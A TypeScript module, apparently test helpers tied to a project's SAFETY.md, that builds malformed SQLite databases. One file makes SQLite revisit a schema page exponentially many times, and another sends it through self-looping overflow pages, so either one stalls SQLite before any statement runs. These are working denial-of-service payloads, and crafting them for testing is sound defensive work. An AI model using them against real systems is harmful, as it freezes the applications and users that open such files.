/**
 * A project file whose table of tables visits the same leaf `fan ** depth` times (SAFETY.md Q2): interior pages whose
 * children are all one page. SQLite reads it before the first statement and can be interrupted by nobody.
 * The leaf holds a row that may stand there any number of times: that of an automatic index.
 */
export function schemaBomb(good: Buffer, index: { name: string; table: string; root: number }, depth: number, fan = 500): Buffer {
  const pageSize = good.readUInt16BE(16)
  const first = good.length / pageSize + 1
  if (good[100] !== 5) throw new Error('the table of tables fits one page')

  const texts = ['index', index.name, index.table].map(text => Buffer.from(text))
  const header = Buffer.from([0, ...texts.map(text => 13 + 2 * text.length), 4, 0])
  header[0] = header.length
  const root = Buffer.alloc(4)
  root.writeUInt32BE(index.root)
  const record = Buffer.concat([header, ...texts, root])
  const cell = Buffer.concat([Buffer.from([record.length, 127]), record])
  const leaf = Buffer.alloc(pageSize)
  leaf[0] = 13
  leaf.writeUInt16BE(1, 3)
  leaf.writeUInt16BE(pageSize - cell.length, 5)
  leaf.writeUInt16BE(pageSize - cell.length, 8)
  cell.copy(leaf, pageSize - cell.length)

  /** An interior page of these children. */
  const interior = (children: number[]): Buffer => {
    const page = Buffer.alloc(pageSize)
    const lefts = children.slice(0, -1)
    page[0] = 5
    page.writeUInt16BE(lefts.length, 3)
    page.writeUInt16BE(pageSize - 5 * lefts.length, 5)
    page.writeUInt32BE(children.at(-1) as number, 8)
    for (const [i, child] of lefts.entries()) {
      const at = pageSize - 5 * (i + 1)
      page.writeUInt16BE(at, 12 + 2 * i)
      page.writeUInt32BE(child, at)
      page[at + 4] = 127
    }
    return page
  }
  // Pages: the new right end of the root (what was there, then the bomb), `depth` levels, the leaf.
  const levels = Array.from({ length: depth }, (_, level) => interior(new Array<number>(fan).fill(first + 2 + level)))
  const bomb = Buffer.concat([good, interior([good.readUInt32BE(108), first + 1]), ...levels, leaf])
  bomb.writeUInt32BE(first, 108)
  bomb.writeUInt32BE(bomb.length / pageSize, 28)
  return bomb
}

/**
 * A table of tables whose last leaf holds `rows` rows that each go on for `pages` overflow pages, all of them one page that
 * follows itself: SQLite would read each row to its end before the first statement.
 */
export function endlessRows(good: Buffer, rows: number, pages: number): Buffer {
  const pageSize = good.readUInt16BE(16)
  const first = good.length / pageSize + 1
  // A cell keeps this much on its leaf when the rest does not fit (file format 1.6).
  const kept = Math.floor((pageSize - 12) * 32 / 255) - 23
  const claim = kept + pages * (pageSize - 4)
  /** What stands on the leaf of a row whose `sql` is spaces from there to its end: type, name, tbl_name, rootpage, sql. */
  const begun = (row: number): Buffer => {
    const texts = ['table', `t${row}`, `t${row}`].map(text => Buffer.from(text))
    const types = [...texts.map(text => 13 + 2 * text.length), 1]
    const around = 1 + types.length + varint(13 + 2 * claim).length
    const sql = claim - around - texts.join('').length - 1
    const body = Buffer.alloc(kept, 32)
    Buffer.concat([Buffer.from([around, ...types]), varint(13 + 2 * sql), ...texts, Buffer.from([2]), Buffer.from(`CREATE TABLE t${row} (x)`)]).copy(body)
    return body
  }
  const leaf = Buffer.alloc(pageSize)
  leaf[0] = 13
  leaf.writeUInt16BE(rows, 3)
  let end = pageSize
  for (let row = 0; row < rows; row++) {
    const next = Buffer.alloc(4)
    next.writeUInt32BE(first + 2)
    const cell = Buffer.concat([varint(claim), varint(1000 + row), begun(row), next])
    end -= cell.length
    cell.copy(leaf, end)
    leaf.writeUInt16BE(end, 8 + 2 * row)
  }
  leaf.writeUInt16BE(end, 5)
  const overflow = Buffer.alloc(pageSize, 32)
  overflow.writeUInt32BE(first + 2)
  const root = Buffer.alloc(pageSize)
  root[0] = 5
  root.writeUInt16BE(1, 3)
  root.writeUInt16BE(pageSize - 6, 5)
  root.writeUInt32BE(first + 1, 8)
  root.writeUInt16BE(pageSize - 6, 12)
  root.writeUInt32BE(good.readUInt32BE(108), pageSize - 6)
  varint(999).copy(root, pageSize - 2)
  const bomb = Buffer.concat([good, root, leaf, overflow])
  bomb.writeUInt32BE(first, 108)
  bomb.writeUInt32BE(bomb.length / pageSize, 28)
  return bomb
}

function varint(value: number): Buffer {
  const bytes = [value & 127]
  for (let rest = Math.floor(value / 128); rest > 0; rest = Math.floor(rest / 128)) bytes.unshift((rest & 127) | 128)
  return Buffer.from(bytes)
}
